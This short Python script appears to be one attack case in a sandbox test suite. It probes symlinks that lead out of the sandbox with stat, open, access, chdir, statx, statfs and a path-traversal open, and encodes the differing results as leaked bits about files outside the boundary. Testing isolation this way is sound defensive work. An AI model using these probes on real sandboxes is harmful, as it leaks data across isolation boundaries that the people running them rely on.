# SPDX-License-Identifier: Apache-2.0
# attack: a granted symlink that leads outside answers differently when its end is there
# class: exist
# wins: leak
from kit import *

tried()
st = stat_buf()
os.chdir(BOX + '/odd')
for probe in (lambda p: sc('stat', p, st), lambda p: openat(p), lambda p: sc('access', p, 0), lambda p: sc('chdir', p),
              lambda p: openat(p, os.O_PATH), lambda p: openat(p + b'/../../../box0/twin.txt'),
              lambda p: sc('statx', AT_FDCWD, p, 0, 0xfff, st), lambda p: sc('statfs', p, st)):
    def bit(i):
        os.chdir(BOX + '/odd')
        return min(probe(b'x%02d' % i), 0)
    answers = [bit(i) for i in range(F['bits'])]
    for there in set(answers):
        say('BITS=' + ''.join('1' if a == there else '0' for a in answers))
